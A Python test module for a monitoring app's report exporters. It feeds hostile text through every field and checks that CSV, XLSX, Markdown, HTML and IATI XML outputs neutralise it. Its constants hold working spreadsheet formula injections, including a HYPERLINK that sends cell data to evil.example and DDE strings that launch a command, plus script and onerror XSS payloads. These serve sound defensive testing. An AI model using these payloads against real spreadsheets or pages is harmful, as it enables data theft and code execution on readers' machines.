"""Safe outputs (#15 part 4): reports that cannot be turned against their
readers.

A hostile user puts spreadsheet formulas, HTML and script payloads and
characters XML 1.0 forbids into every text field the domain accepts (names
of partnerships and organisations, commitment statements, KPI names and
units, activity and communication titles...).  Every report format must
still be safe: CSV and XLSX show such text instead of evaluating it, Markdown
and HTML render none of it as markup, and the IATI file stays well-formed and
valid.  Numbers stay numbers throughout.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any
from uuid import UUID

import attrs
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lxml_html

from pact_adapters.cli import main
from pact_adapters.errors import PactAdapterError
from pact_adapters.reports import MalformedReportError, iati
from pact_adapters.reports._common import (
    FORMULA_PREFIXES,
    spreadsheet_cell,
    xml_safe,
)
from pact_adapters.reports.csv_report import CSV
from pact_adapters.reports.html import CSP, HTML
from pact_adapters.reports.iati import IATI
from pact_adapters.reports.markdown import MARKDOWN
from pact_adapters.reports.xlsx import XLSX
from pact_adapters.stores import open_application
from pact_domain.application import PactApplication
from pact_domain.monitoring import (
    AnnualMonitoringReport,
    MonitoringViews,
    PortfolioReport,
    annual_report,
    portfolio_report,
)
from pact_domain.partnership import KpiDefinition
from pact_domain.testing import StepClock
from pact_domain.values import (
    AgreementContent,
    Baseline,
    ContactPerson,
    ReportingPeriod,
    Target,
)
from test_report_formats import annual, folio

IATI_SCHEMA = (
    Path(__file__).parent / "data" / "iati-2.03" / "iati-activities-schema.xsd"
)
ACTOR = "support@pact.example"

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
)
CONTROLS = ("\x0b", "\x01", "\x1f", "\x0c", "\ufffe", "\uffff")
"""Characters XML 1.0 forbids that the domain accepts inside a name."""

_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


INSIDE = ("\u200d", "\u200b", "\u00ad", "\t")
"""Characters the domain keeps inside a stored name (it refuses those XML 1.0
forbids, :data:`CONTROLS`; those reach the formats in the generated reports
below)."""


def _hostile(n: int, limit: int = 300) -> str:
    """A name mixing a formula, markup and an invisible character (never at
    the ends, which the domain strips)."""
    text = (
        f"{FORMULAS[n % len(FORMULAS)]} {MARKUP[n % len(MARKUP)]} "
        f"a{INSIDE[n % len(INSIDE)]}b | c\nd"
    )
    return text[:limit]


# -- a hostile store, through the public API ---------------------------------------


def _build(store: str) -> tuple[PactApplication, list[UUID]]:
    clock = StepClock(datetime(2024, 1, 2, 9, tzinfo=UTC), timedelta(minutes=1))
    app = open_application(store, clock=clock)
    person = ContactPerson(
        full_name=FORMULAS[0],
        email="ana@example.eu",
        title=MARKUP[0],
        organisation=_hostile(1),
    )
    pids = []
    for i in range(2):
        clock.next = datetime(2024, 1, 2, 9, tzinfo=UTC)
        pid = app.submit_expression_of_interest(
            name=_hostile(i),
            kind="large_scale",
            contact=person,
            description=_hostile(i + 2),
            ecosystems=("health",),
            objectives=_hostile(i + 3),
            actor=ACTOR,
        )
        app.assess_expression_of_interest(pid, outcome="accepted", actor=ACTOR)
        orgs = []
        for j, country in enumerate(("DE", "FR", "IT")):
            org = app.register_organisation(
                name=_hostile(i + j),
                stakeholder_type="vet_provider",
                size="small",
                country=country,
                actor=ACTOR,
            )
            app.join_partnership(pid, organisation_id=org, actor=ACTOR)
            orgs.append(org)
        app.appoint_coordinator(pid, organisation_id=orgs[0], actor=ACTOR)
        version = app.draft_agreement(
            pid,
            content=AgreementContent(
                challenge=_hostile(i + 1),
                ambition=_hostile(i + 2),
                strategic_themes=("sustainability",),
            ),
            actor=ACTOR,
        )
        app.sign_agreement(
            pid,
            version=version,
            signatories=(orgs[0],),
            signed_on=date(2024, 1, 1),
            actor=ACTOR,
        )
        _, kids = app.pledge_commitment(
            pid,
            category="training_and_development",
            statement=_hostile(i + 4),
            principles=("learning_culture",),
            kpis=(
                KpiDefinition(
                    name=_hostile(i + 3),
                    category="skilling_training_outputs",
                    measure="count",
                    unit=_hostile(i + 4, 60),
                    baseline=Baseline(-5, 2023),
                    target=Target(1000, "people", date(2025, 12, 31)),
                    dimensions=("gender",),
                ),
                KpiDefinition(
                    name=_hostile(i + 1),
                    category="skilling_training_outputs",
                    measure="count",
                    unit="=1+1",
                    target=Target(10, "=1+1", date(2025, 12, 31)),
                ),
            ),
            actor=ACTOR,
            effective_at=date(2024, 1, 1),
        )
        clock.next = datetime(2024, 11, 20, tzinfo=UTC)
        app.record_activity(
            pid,
            type="general_meeting",
            title=_hostile(i + 2),
            held_on=date(2024, 11, 18),
            participants=30,
            actor=ACTOR,
        )
        app.record_communication(
            pid,
            channel="newsletter",
            title=_hostile(i + 3),
            reach=1000,
            published_on=date(2024, 11, 19),
            actor=ACTOR,
        )
        clock.next = datetime(2025, 1, 20, tzinfo=UTC)
        rid = app.report_kpi(
            pid,
            kpi_id=kids[0],
            period=ReportingPeriod.year(2024),
            value=300,
            text=_hostile(i),
            actor=ACTOR,
        )
        app.approve_kpi_report(pid, report_id=rid, reviewer_id=orgs[0], actor=ACTOR)
        pids.append(pid)
    clock.next = datetime(2025, 2, 1, tzinfo=UTC)
    return app, pids


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, UUID]:
    path = str(tmp_path_factory.mktemp("hostile") / "pact.db")
    _, pids = _build(path)
    return path, pids[0]


@pytest.fixture(scope="module")
def hostile_reports(
    hostile_store: tuple[str, UUID],
) -> tuple[AnnualMonitoringReport, PortfolioReport]:
    path, pid = hostile_store
    views = MonitoringViews(open_application(path))
    report = annual_report(views, pid, year=2024)
    folio_ = portfolio_report(views, year=2024)
    assert report.name == _hostile(0)  # the payload really reached the report
    assert sorted(k.name for k in report.kpis) == sorted([_hostile(3), _hostile(1)])
    return report, folio_


@pytest.fixture(params=["annual", "portfolio"])
def rendered(
    request: pytest.FixtureRequest,
    hostile_reports: tuple[AnnualMonitoringReport, PortfolioReport],
) -> tuple[Any, Any]:
    """(report, context) of the hostile store: the annual report with the
    portfolio as context, or the portfolio report."""
    report, folio_ = hostile_reports
    if request.param == "annual":
        return report, folio_.portfolio
    return folio_, None


# -- checks shared by the store-built and the generated reports --------------------


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _neutralised(text: str) -> str:
    """What a spreadsheet cell must hold for ``text`` (a lone ``-`` is no
    formula and stays)."""
    if text != "-" and text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + text
    return text


def _csv_rows(output: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output.decode("utf-8"), newline="")))


def _check_csv(output: bytes) -> list[list[str]]:
    rows = _csv_rows(output)
    for row in rows:
        for cell in row:
            assert (
                cell == "-" or not cell.startswith(FORMULA_PREFIXES) or _is_number(cell)
            ), cell
    return rows


def _workbook(output: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(output))


def _check_xlsx(output: bytes) -> Any:
    wb = _workbook(output)
    for ws in wb:
        # a name's "&" in a page header is written so it starts no code
        assert "&" not in ws.oddHeader.left.text.replace("&&", ""), ws.title
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.value == "-" or not cell.value.startswith(
                        FORMULA_PREFIXES
                    ), (ws.title, cell.coordinate, cell.value)
    return wb


_PIPE = re.compile(r"(?<!\\)(?:\\\\)*\|")
"""A table pipe: preceded by an even number of backslashes."""


def _check_markdown(output: bytes) -> str:
    text = output.decode("utf-8")
    assert "<" not in text  # no raw HTML of any kind: the format writes none
    assert "](" not in text.replace("\\](", "")  # no link
    assert not _FORBIDDEN.search(text)
    width = None
    for line in text.splitlines():
        if line.startswith("|"):
            cells = len(_PIPE.findall(line))
            if width is None:
                width = cells
            assert cells == width, line  # no cell adds a column
        else:
            width = None
    return text


def _check_html(output: bytes) -> Any:
    page = output.decode("utf-8")
    assert not _FORBIDDEN.search(page)
    lowered = page.lower()
    for banned in ("<script", "<img", "<iframe", "<a ", "<object", "<embed"):
        assert banned not in lowered
    doc = lxml_html.document_fromstring(page)
    tags = {e.tag for e in doc.iter() if isinstance(e.tag, str)}
    assert not tags & {"script", "img", "iframe", "a", "object", "embed", "link"}
    for e in doc.iter():
        if isinstance(e.tag, str):
            assert not [a for a in e.attrib if a.lower().startswith("on")], e.tag
    (meta,) = doc.xpath('//head/meta[@http-equiv="Content-Security-Policy"]')
    assert meta.get("content") == CSP
    return doc


@pytest.fixture(scope="module")
def iati_schema() -> Any:
    return etree.XMLSchema(etree.parse(str(IATI_SCHEMA)))


def _check_iati(output: bytes, schema: Any) -> Any:
    doc = etree.fromstring(output)  # well-formed, or XMLSyntaxError
    schema.assertValid(doc)
    return doc


# -- the hostile store, format by format -------------------------------------------


def test_csv_neutralises_formulas_and_keeps_numbers(rendered: tuple[Any, Any]) -> None:
    report, context = rendered
    output = CSV.render(report, context)
    header, *rows = _check_csv(output)
    names = [dict(zip(header, row, strict=True))["name"] for row in rows]
    if isinstance(report, AnnualMonitoringReport):
        expected = ["'" + k.name for k in report.kpis]
        by_id = {
            row[header.index("kpi_id")]: dict(zip(header, row, strict=True))
            for row in rows
        }
        (kpi,) = [k for k in report.kpis if k.baseline is not None]
        first = by_id[str(kpi.kpi_id)]
        assert first["partnership"] == "'" + report.name
        assert first["unit"] == "'" + kpi.unit
        assert first["baseline"] == "-5"  # a negative number stays a number
        assert b",-5," in output  # written plainly, not quoted
        assert first["actual"] == "300"
    else:
        expected = ["'" + line.name for line in report.partnerships]
        assert rows[0][header.index("members")] == "3"
    assert names == expected


def test_xlsx_has_no_formula_and_numbers_stay_numbers(
    rendered: tuple[Any, Any],
) -> None:
    report, context = rendered
    wb = _check_xlsx(XLSX.render(report, context))
    if isinstance(report, AnnualMonitoringReport):
        header, *rows = list(wb["KPIs"].values)
        line = {r[0]: n for n, r in enumerate(rows, start=2)}
        for k in report.kpis:
            cells = wb["KPIs"][line[str(k.kpi_id)]]
            assert cells[header.index("KPI")].value == "'" + xml_safe(k.name)
            unit = cells[header.index("Unit")]
            assert unit.value == "'" + xml_safe(k.unit)
            assert unit.data_type == "s"
        (kpi,) = [k for k in report.kpis if k.baseline is not None]
        row = line[str(kpi.kpi_id)]
        baseline = wb["KPIs"].cell(row, header.index("Baseline") + 1)
        assert (baseline.value, baseline.data_type) == (-5, "n")
        actual = wb["KPIs"].cell(row, header.index("Actual") + 1)
        assert (actual.value, actual.data_type) == (300, "n")
        summary = {r[1]: r[2] for r in wb["Summary"].values}
        assert summary["Partnership"] == "'" + xml_safe(report.name)
        assert summary["Members"] == 3
        assert not _FORBIDDEN.search(wb.properties.title)
    else:
        header, *rows = list(wb["Partnerships"].values)
        assert [r[header.index("Partnership")] for r in rows] == [
            "'" + xml_safe(line.name) for line in report.partnerships
        ]
        assert [r[header.index("Members")] for r in rows] == [3, 3]


def test_markdown_renders_no_markup(rendered: tuple[Any, Any]) -> None:
    report, context = rendered
    text = _check_markdown(MARKDOWN.render(report, context))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    if isinstance(report, AnnualMonitoringReport):
        assert text.startswith("# Annual monitoring report 2024: =HYPERLINK(")
        assert "a\u200db \\| c d" in text.splitlines()[0]


def test_html_escapes_everything_and_forbids_scripts(
    rendered: tuple[Any, Any],
) -> None:
    report, context = rendered
    doc = _check_html(HTML.render(report, context))
    text = doc.text_content()
    assert "<script>alert(1)</script>" in text  # shown as text
    assert "<img src=x onerror=alert(1)>" in text
    if isinstance(report, AnnualMonitoringReport):
        assert doc.findtext(".//h1") == (
            f"Annual monitoring report 2024: {xml_safe(report.name)}"
        )


def test_iati_is_well_formed_and_valid(
    rendered: tuple[Any, Any], iati_schema: Any
) -> None:
    report, context = rendered
    doc = _check_iati(IATI.render(report, context), iati_schema)
    titles = doc.xpath("//iati-activity/title/narrative/text()")
    names = (
        [report.name]
        if isinstance(report, AnnualMonitoringReport)
        else [line.name for line in report.partnerships]
    )
    assert titles == [xml_safe(n) for n in names]
    # The store holds no character XML forbids (the domain refuses them);
    # the invisible one it keeps reaches the file as it is.
    assert "\u200d" in titles[0]


def test_the_cli_writes_safe_files(
    hostile_store: tuple[str, UUID],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    iati_schema: Any,
) -> None:
    """``pact report --format … -o FILE`` on the hostile store."""
    path, pid = hostile_store
    checks = {
        "csv": _check_csv,
        "xlsx": _check_xlsx,
        "md": _check_markdown,
        "html": _check_html,
        "iati": lambda data: _check_iati(data, iati_schema),
    }
    for fmt, check in checks.items():
        for target in (str(pid), "--portfolio"):
            out = tmp_path / f"{fmt}-{target}.out"
            argv = ["report", target, "--year", "2024", "--format", fmt]
            assert main([*argv, "-o", str(out), "--store", path]) == 0
            check(out.read_bytes())
    capsys.readouterr()


# -- the safety checks themselves --------------------------------------------------


def test_a_malformed_iati_file_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the replacement the control character would make the file
    unparseable: the export refuses it instead of returning it."""
    monkeypatch.setattr(iati, "xml_safe", lambda text: text)
    report = attrs.evolve(annual(), name="Skills\x0bpartnership")
    with pytest.raises(MalformedReportError) as info:
        IATI.render(report, None)
    assert isinstance(info.value, PactAdapterError)
    assert isinstance(info.value, ValueError)
    assert info.value.format == "iati"
    with pytest.raises(MalformedReportError, match="mine"):
        iati.iati_format(("XI-X", "X", "90"), name="mine").render(report, None)


@given(
    st.one_of(
        st.decimals(allow_nan=False, allow_infinity=False),
        st.integers(),
        st.none(),
        st.text(),
    )
)
def test_spreadsheet_cell_prefixes_formula_text_only(value: Any) -> None:
    safe = spreadsheet_cell(value)
    if isinstance(value, str) and value != "-" and value.startswith(FORMULA_PREFIXES):
        assert safe == "'" + value
    else:
        assert safe is value


@given(st.text(alphabet=st.characters(exclude_categories=())))
def test_xml_safe_keeps_what_xml_allows_and_replaces_the_rest(text: str) -> None:
    safe = xml_safe(text)
    assert len(safe) == len(text)
    for before, after in zip(text, safe, strict=True):
        allowed = (
            before in "\t\n\r"
            or "\x20" <= before <= "\ud7ff"
            or "\ue000" <= before <= "\ufffd"
            or before >= "\U00010000"
        )
        assert after == (before if allowed else "\ufffd")
    escaped = safe.replace("&", "&amp;").replace("<", "&lt;")
    etree.fromstring(f"<a>{escaped}</a>".encode())  # well-formed


# -- generated hostile text in every field of the report ---------------------------

_PREFIX = st.sampled_from(
    ["", "=", "+", "-", "@", "\t", "\r", "=cmd|' /C calc'!A0", *MARKUP, *CONTROLS]
)
_PIECE = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("=+-@|\\`*_[]~<>&\"' \t\r\n;,")),
        st.sampled_from(CONTROLS),
        st.characters(exclude_categories=("Cs",)),
    ),
    max_size=12,
)
HOSTILE_TEXT = st.builds(lambda a, b, c: a + b + c, _PREFIX, _PIECE, _PREFIX).filter(
    lambda s: s.strip() != ""
)
"""Text as a hostile user writes it: a formula or markup prefix, forbidden and
active characters; never lone surrogates, which the domain refuses and no
UTF-8 output can hold."""


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    name=HOSTILE_TEXT,
    kpi_name=HOSTILE_TEXT,
    unit=HOSTILE_TEXT,
    baseline=st.decimals(
        min_value=-(10**6), max_value=10**6, places=2, allow_nan=False
    ),
)
def test_every_format_is_safe_for_generated_hostile_text(
    name: str, kpi_name: str, unit: str, baseline: Decimal
) -> None:
    base = annual()
    kpis = (
        attrs.evolve(
            base.kpis[2],
            name=kpi_name,
            unit=unit,
            baseline=Baseline(baseline, 2022),
        ),
        *base.kpis[:2],
    )
    report = attrs.evolve(base, name=name, kpis=kpis)
    portfolio = folio()
    entries = (attrs.evolve(portfolio.portfolio.entries[0], name=name),)
    lines = (attrs.evolve(portfolio.partnerships[0], name=kpi_name),)
    portfolio = attrs.evolve(
        portfolio,
        portfolio=attrs.evolve(portfolio.portfolio, entries=entries),
        partnerships=lines,
    )

    header, *rows = _check_csv(CSV.render(report, None))
    first = dict(zip(header, rows[0], strict=True))
    for column, text in (("partnership", name), ("name", kpi_name), ("unit", unit)):
        assert first[column] == _neutralised(text)
    assert first["baseline"] == str(baseline)  # no quote, a number
    (_, portfolio_row) = _check_csv(CSV.render(portfolio, None))
    assert portfolio_row[2] == _neutralised(kpi_name)

    wb = _check_xlsx(XLSX.render(report, portfolio))
    kpi_header = next(wb["KPIs"].values)
    cell = wb["KPIs"].cell(2, kpi_header.index("Baseline") + 1)
    assert cell.data_type == "n"
    assert Decimal(str(cell.value)) == baseline
    _check_xlsx(XLSX.render(portfolio, None))

    _check_markdown(MARKDOWN.render(report, portfolio))
    _check_markdown(MARKDOWN.render(portfolio, None))

    doc = _check_html(HTML.render(report, portfolio))
    title = doc.findtext(".//h1")
    expected_title = f"Annual monitoring report 2025: {xml_safe(name)}"
    assert title.replace("\r\n", "\n").replace("\r", "\n") == (
        expected_title.replace("\r\n", "\n").replace("\r", "\n")
    )
    _check_html(HTML.render(portfolio, None))

    schema = _schema()
    doc = _check_iati(IATI.render(report, None), schema)
    narrative = doc.findtext("iati-activity/result/indicator/title/narrative")
    assert narrative == xml_safe(kpi_name).replace("\r\n", "\n").replace("\r", "\n")
    _check_iati(IATI.render(portfolio, None), schema)


_SCHEMA: list[Any] = []


def _schema() -> Any:
    """The IATI schema, loaded once (Hypothesis tests take no module
    fixtures)."""
    if not _SCHEMA:
        _SCHEMA.append(etree.XMLSchema(etree.parse(str(IATI_SCHEMA))))
    return _SCHEMA[0]
